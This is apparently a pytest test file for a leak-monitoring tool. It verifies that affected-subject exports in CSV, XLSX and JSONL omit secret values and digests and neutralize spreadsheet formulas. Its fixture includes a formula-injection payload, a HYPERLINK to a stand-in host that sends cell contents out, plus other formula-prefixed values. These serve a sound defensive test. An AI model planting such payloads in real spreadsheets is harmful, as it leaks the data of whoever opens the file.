"""Affected-subject exports: right rows, no identifier values or digests, formula cells neutralized."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest

from leakmon.workflows.affected import COLUMNS, affected_rows, select_incidents
from leakmon.workflows.tables import neutralize, write_rows
from storage.models.core import HitRecord
from storage.repositories.cases import incident_of_post
from tests.leakmon.workflows.world import SECRET_VALUES, Db, World, digest

EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")'


def _world(w: World) -> int:
    post = w.post("chan_a", "1", url="-2+3 https://t.me/chan_a/1", files=[("db.csv", "7" * 64)])
    hits = [
        w.hit(post, EVIL, "name", attachment_sha256="7" * 64),
        w.hit(post, EVIL, "phone", attachment_sha256="7" * 64, label=SECRET_VALUES[0]),
        w.hit(post, EVIL, "address", attachment_sha256="7" * 64, label=SECRET_VALUES[3]),
        w.hit(post, "@cmd", "rrn", attachment_sha256="7" * 64, label=SECRET_VALUES[1], obfuscation="separators"),
        w.hit(post, "+plus", "email", attachment_sha256="7" * 64, label=SECRET_VALUES[2]),
    ]
    other = w.post("forum_b", "9", venue="forum", files=[("db.csv", "7" * 64)])
    hits2 = [w.hit(other, EVIL, "phone", attachment_sha256="7" * 64, label=SECRET_VALUES[0])]
    w.ingest(post, hits)
    w.ingest(other, hits2)
    incident_id = incident_of_post(w.session, post.id)
    assert incident_id is not None
    return incident_id


def test_rows_per_subject(db: Db) -> None:
    with db.world() as w:
        incident_id = _world(w)
        rows = {
            r.subject_ref: r for r in affected_rows(w.session, select_incidents(w.session, incident_id=incident_id))
        }
    assert set(rows) == {EVIL, "@cmd", "+plus"}
    evil = rows[EVIL]
    assert evil.identifier_types == ("address", "name", "phone")
    assert evil.co_occurring == ("address+name+phone",)
    assert evil.match_strength == "exact"
    assert evil.venues == ("chan_a", "forum_b")
    assert rows["@cmd"].match_strength == "normalised"
    assert evil.incident_id == incident_id


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "jsonl"])
def test_export_has_no_values_or_digests_and_neutralizes_formulas(db: Db, tmp_path: Path, fmt: str) -> None:
    with db.world() as w:
        incident_id = _world(w)
        rows = list(affected_rows(w.session, select_incidents(w.session, incident_id=incident_id)))
        digests = [h.digest.hex() for h in w.session.query(HitRecord)]
    out = tmp_path / f"affected.{fmt}"
    count = write_rows([{c: getattr(r, c) for c in COLUMNS} for r in rows], COLUMNS, fmt, out, io.StringIO())
    assert count == 3
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(out).active
        assert sheet is not None
        cells = [c for row in sheet.iter_rows() for c in row]
        text = "\n".join(str(c.value) for c in cells)
        assert all(c.data_type != "f" for c in cells)
        assert {c.data_type for c in cells if isinstance(c.value, str)} == {"s"}  # string cells
        refs = [str(r[1].value) for r in sheet.iter_rows(min_row=2)]
    elif fmt == "csv":
        raw = out.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")
        text = raw.decode("utf-8-sig")
        refs = [r["subject_ref"] for r in csv.DictReader(io.StringIO(text))]
    else:
        text = out.read_text(encoding="utf-8")
        refs = [json.loads(line)["subject_ref"] for line in text.splitlines()]
    for secret in SECRET_VALUES:
        assert secret not in text
    for value in [*digests, digest(SECRET_VALUES[0]).hex()]:
        assert value not in text
    if fmt in ("jsonl", "xlsx"):
        # JSON is data; XLSX string cells are never evaluated: both keep the value as stored.
        assert sorted(refs) == sorted([EVIL, "@cmd", "+plus"])
        assert "-2+3 https://t.me/chan_a/1" in text
        assert "'-2+3" not in text
    else:
        assert sorted(refs) == sorted(["'" + EVIL, "'@cmd", "'+plus"])
        assert "'-2+3 https://t.me/chan_a/1" in text


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("ok", "ok")],
)
def test_neutralize(value: str, expected: str) -> None:
    assert neutralize(value) == expected
